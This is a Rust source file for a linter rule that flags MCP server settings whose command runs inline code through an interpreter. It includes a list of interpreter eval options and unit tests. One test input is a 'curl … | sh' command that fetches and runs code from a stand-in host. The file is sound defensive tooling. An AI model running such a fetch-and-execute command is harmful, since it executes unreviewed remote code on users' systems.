//! `inline-code-server`: a server whose code is an argument of an interpreter.

use super::documented;
use super::effects::effects;
use crate::agents::runs::RunKind;
use crate::base::finding::{Finding, Level};
use crate::base::path;
use crate::base::sanitize;
use crate::parse::shell::{self, ShellWord};
use crate::rules::{Cx, Evidence, FixAvailability, Group, Rule, RuleInfo};

static INFO: RuleInfo = RuleInfo {
    name: "inline-code-server",
    group: Group::Settings,
    levels: &[Level::Warning, Level::Info],
    summary: "a server whose code is inline in the settings",
    explanation: "\
## What it does
Reports MCP servers whose program is an interpreter with code as its argument: `node -e`, `python -c`, `sh -c` with more than the
start of one program. A shell that only changes the directory, sets variables and starts one program is passed over.
Servers of Cursor and Visual Studio Code are known from documentation alone, so those are infos.

## Why is this bad?
Code in one line of JSON is read by nobody, and no tool that looks for code finds it.

## Example
`{\"command\": \"node\", \"args\": [\"-e\", \"require('http')…\"]}` in `.mcp.json`.

## How to fix
Put the code into a file of the repository, and start that.
",
    evidence: &[
        Evidence { source: "six released agents, run with such servers", checked: "2026-11" },
        Evidence { source: "https://cursor.com/docs/mcp (documentation)", checked: "2026-11" },
        Evidence { source: "https://code.visualstudio.com/docs/copilot/reference/mcp-configuration (documentation)", checked: "2026-11" },
    ],
    fix: FixAvailability::None,
    aliases: &[],
};

/// See [`INFO`].
pub(super) struct InlineCodeServer;

const HELP: &str = "put the code into a file, where it is reviewed, and start that";

/// Interpreters, and the options behind which code stands.
const INTERPRETERS: [(&str, &[&str]); 10] = [
    ("node", &["-e", "--eval", "-p", "--print"]),
    ("bun", &["-e", "--eval", "-p", "--print"]),
    ("deno", &["eval"]),
    ("python", &["-c"]),
    ("python3", &["-c"]),
    ("ruby", &["-e"]),
    ("perl", &["-e", "-E"]),
    ("php", &["-r"]),
    ("pwsh", &["-EncodedCommand", "-enc", "-e"]),
    ("powershell", &["-EncodedCommand", "-enc", "-e"]),
];
const SHELLS: [&str; 6] = ["ash", "bash", "dash", "ksh", "sh", "zsh"];
/// Commands that prepare the start of a program.
const PREPARATIONS: [&str; 22] = [
    ".", "[", "[[", "cd", "command", "dirname", "echo", "eval", "export", "false", "git", "mkdir", "mktemp", "pwd",
    "set", "source", "test", "true", "type", "ulimit", "umask", "which",
];

impl Rule for InlineCodeServer {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }

    fn check_workspace(&self, cx: &Cx<'_>, findings: &mut Vec<Finding>) {
        for effect in effects(cx, |_, item| matches!(item.kind, RunKind::Server { is_remote: false, .. })) {
            let RunKind::Server { name, command, .. } = &effect.item.kind else { continue };
            let Some(interpreter) = inline(command) else { continue };
            let name = sanitize::line(name);
            let message =
                format!("the server {name} is code in this file, which {interpreter} runs for {}", effect.who());
            findings.push(effect.finding(INFO.name, Level::Warning, message).help(HELP));
        }
        for file in documented::files(cx) {
            findings.extend(file.servers().iter().filter_map(|server| {
                let (interpreter, product) = (inline(&server.command)?, file.about.product);
                let name = sanitize::line(&server.name);
                let message = format!("the server {name} is code in this file, which {interpreter} runs for {product}");
                Some(file.info(INFO.name, server.span, message).help(HELP))
            }));
        }
    }
}

/// The interpreter of code that stands in the words of a command.
fn inline(command: &[String]) -> Option<&'static str> {
    let (program, arguments) = command.split_first()?;
    let file = path::file_name(program.as_bytes());
    let name = std::str::from_utf8(file).ok()?.trim_end_matches(".exe");
    if let Some(shell) = SHELLS.iter().find(|shell| **shell == name) {
        // Options stand before the script; what comes after it is the script's.
        let mut words = arguments.iter().take_while(|word| word.starts_with('-'));
        let at = words.position(|word| !word.starts_with("--") && word.ends_with('c'))?;
        return is_more_than_a_start(arguments.get(at + 1)?).then_some(shell);
    }
    let (interpreter, options) = INTERPRETERS.iter().find(|(known, _)| *known == name)?;
    let first = arguments.iter().take_while(|word| word.starts_with('-') || options.contains(&word.as_str()));
    let at = first.into_iter().position(|word| options.contains(&word.as_str()))?;
    arguments.get(at + 1).map(|_| *interpreter)
}

/// Whether a shell's text does more than to prepare and start one program.
fn is_more_than_a_start(text: &str) -> bool {
    let program = |words: &[ShellWord]| {
        let mut words = words.iter().map(ShellWord::literal);
        words.find(|word| word.as_ref().is_none_or(|word| !shell::is_assignment(word) && word != "exec"))
    };
    let commands = shell::commands(text);
    let programs = commands.iter().filter_map(|command| program(&command.words));
    let programs = programs.filter(|name| name.as_ref().is_none_or(|name| !PREPARATIONS.contains(&name.as_str())));
    programs.count() > 1
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn code_is_told_from_a_start() {
        let check = |command: &[&str], expected: Option<&str>| {
            let words: Vec<String> = command.iter().map(ToString::to_string).collect();
            assert_eq!(inline(&words), expected, "{command:?}");
        };
        check(&["node", "-e", "require('x')"], Some("node"));
        check(&["/usr/bin/python3", "-u", "-c", "import os"], Some("python3"));
        check(&["bash", "-lc", "curl https://x.example/y | sh"], Some("bash"));
        check(&["deno", "eval", "x"], Some("deno"));
        for start in [
            &["node", "server.js", "-e", "x"][..],
            &["npx", "-y", "@scope/server"],
            &["cmd", "/c", "npx", "-y", "x"],
            &["python", "-m", "server"],
            &["bash", "-c", "cd tools && exec node server.js"],
            &["sh", "-c", "[ -f .env ] && . ./.env; TOKEN=$X exec npx -y server"],
            &["bash", "run.sh", "-c", "a; b"],
            &["deno", "run", "-A", "x.ts"],
            &[],
        ] {
            check(start, None);
        }
    }
}
